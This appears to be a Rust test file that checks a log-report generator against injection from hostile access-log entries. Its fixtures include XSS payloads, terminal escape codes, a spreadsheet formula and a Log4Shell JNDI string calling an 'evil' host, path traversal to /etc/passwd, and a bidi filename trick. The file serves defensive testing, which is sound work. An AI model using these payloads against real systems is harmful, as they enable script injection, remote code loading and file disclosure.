//! Tests that no output format is vulnerable to injection from a log.

use quick_xml::Reader;
use quick_xml::events::Event;

use crate::program::{Site, line};

/// User agents of attacks. All but the last, a Log4Shell probe, are named Unknown AI.
const USER_AGENTS: [&str; 5] = [
    "</style><script>alert(1)</script> EvilBot/1.0",
    "\\x1b[2J\\x1b]0;owned\\x07 EvilBot/1.0",
    "\\\" onmouseover=\\\"alert(1)\\\" EvilBot/1.0",
    "=HYPERLINK(\\\"http://evil\\\") EvilBot/1.0",
    "${jndi:ldap://evil} EvilBot/1.0",
];

/// Paths of attacks. Each becomes a term.
const PATHS: [&str; 7] = [
    "/t/<script>alert(1)<%2fscript>",
    "/t/%22onload=%22alert(1)",
    "/t/=1+1",
    "/t/..%2f..%2f..%2fetc%2fpasswd",
    "/t/%e2%80%aegnp.exe",
    "/t/]]>&lt;x",
    "/t/|a|`b`*c*",
];

fn attacked_site() -> Site {
    // Texts from the config are trusted, but must be escaped too.
    let site = Site::new(
        "[guestbook]\nsign = [\"training\", \"security\", \"http-tool\", \"other\"]\n\
         [site]\nname = \"<b>&\\\"site\\\"\"\ncaption = \"<i>&</i>\"\n[[logs]]\npaths = [\"access.log\"]\n\
         [terms]\npattern = '^/t/(?<term>.+)$'\n\
         [[request_types]]\nname = \"<u>type</u>\"\npath = 'passwd'\n\
         [[agents]]\nname = \"<img src=x onerror=alert(1)>\"\ntokens = [\"GPTBot\"]\n\
         [reports]\nformats = [\"html\", \"svg\", \"json\", \"csv\", \"md\", \"text\", \"png\"]\n",
    );
    let time = "20/May/2026:10:00:00 +0000";
    let mut text = String::new();
    for path in PATHS {
        text += &line(time, path, 200, "GPTBot/1.2");
        for user_agent in USER_AGENTS {
            text += &line(time, path, 200, user_agent);
        }
    }
    site.write("access.log", text);
    site.succeed(&["nightly", "--as-of", "2026-05-20"]);
    site
}

/// Returns the name and content of all published files with this extension.
fn published(site: &Site, extension: &str) -> Vec<(String, String)> {
    let mut files = Vec::new();
    let mut folders = vec![site.path("reports")];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
            } else if path.extension().is_some_and(|found| found == extension) {
                let text = std::fs::read_to_string(&path).unwrap();
                files.push((path.display().to_string(), text));
            }
        }
    }
    assert!(files.len() > PATHS.len() || extension == "xml", "{extension}: {}", files.len());
    files
}

#[test]
fn markup_has_only_known_elements() {
    let site = attacked_site();
    let known = [
        "section",
        "style",
        "header",
        "footer",
        "main",
        "nav",
        "h1",
        "h2",
        "h3",
        "p",
        "small",
        "ol",
        "ul",
        "li",
        "dl",
        "dt",
        "dd",
        "div",
        "span",
        "b",
        "bdi",
        "i",
        "svg",
        "rect",
        "path",
        "g",
        "title",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "text",
        "a",
        "html",
        "head",
        "body",
        "link",
        "script",
        "details",
        "summary",
        "pre",
        "code",
        "feed",
        "id",
        "updated",
        "author",
        "generator",
        "name",
        "entry",
        "content",
    ];
    let files =
        ["html", "svg", "xml"].into_iter().flat_map(|extension| published(&site, extension));
    for (name, text) in files {
        assert!(text.is_ascii(), "{name}");
        // The void elements in the head of a page are HTML and not XML. The rest must be well-formed XML.
        let is_void = |line: &&str| !line.starts_with("<meta") && !line.starts_with("<link rel");
        let text: String = text.lines().filter(is_void).map(|line| format!("{line}\n")).collect();
        let text = text.replace("<script src=\"pages.js\" defer>", "<script>");
        let text = text.replace("<script src=\"../pages.js\" defer>", "<script>");
        let mut reader = Reader::from_str(&text);
        loop {
            let event =
                reader.read_event().unwrap_or_else(|error| panic!("{name}: {error}\n{text}"));
            let tag = match event {
                Event::Start(tag) | Event::Empty(tag) => tag,
                Event::Eof => break,
                _ => continue,
            };
            let element = tag.local_name();
            assert!(known.contains(&element.as_ref()), "{name}: <{}>", element.as_ref());
            for attribute in tag.attributes() {
                let attribute = attribute.unwrap();
                let key = attribute.key.as_ref();
                assert!(!key.starts_with("on"), "{name}: {key}");
                if key == "href" {
                    if let Some(csv) = attribute.value.strip_prefix("data:text/csv;charset=utf-8,")
                    {
                        assert!(!csv.contains(['<', '>', ' ', '"']), "{name}: {csv}");
                        continue;
                    }
                    let own = attribute.value.trim_start_matches("../");
                    assert!(!own.contains(':') && !own.starts_with('/'), "{name}: {own}");
                }
            }
        }
    }
}

#[test]
fn text_formats_have_no_control_characters_or_formulas() {
    let site = attacked_site();
    for extension in ["txt", "md", "csv", "json"] {
        for (name, text) in published(&site, extension) {
            let is_end = |c: char| c == '\n' || c == '\r' && extension == "csv";
            let is_control =
                |c: char| (c.is_control() && !is_end(c)) || ('\u{202a}'..='\u{202e}').contains(&c);
            assert!(!text.contains(is_control), "{name}: {text}");
            if extension == "csv" {
                for cell in text.lines().flat_map(|line| line.split(',')) {
                    let cell = cell.trim_start_matches('"');
                    assert!(!cell.starts_with(['=', '+', '@']), "{name}: {cell}");
                }
            }
        }
    }
    let output = site.succeed(&["parse", "access.log"]);
    assert!(!output.contains('\u{1b}'), "{output}");
}

#[test]
fn no_file_is_written_outside_the_reports_folder() {
    let site = attacked_site();
    let mut names: Vec<String> = std::fs::read_dir(site.path(""))
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    names.retain(|name| !name.starts_with("guestbook.db"));
    assert_eq!(names, ["access.log", "config.toml", "reports"]);
}

#[test]
fn attacks_are_counted_like_other_requests() {
    let site = attacked_site();
    let report = site.term("../../../etc/passwd", "2026-05-20");
    assert_eq!(report["total_pings"], 6);
    assert_eq!(report["request_types"][0]["type"], "<u>type</u>");
    let families: Vec<&str> = report["families"]
        .as_array()
        .unwrap()
        .iter()
        .map(|row| row["family"].as_str().unwrap())
        .collect();
    assert_eq!(families, ["Unknown AI", "<img src=x onerror=alert(1)>", "Log4Shell probe"]);
}
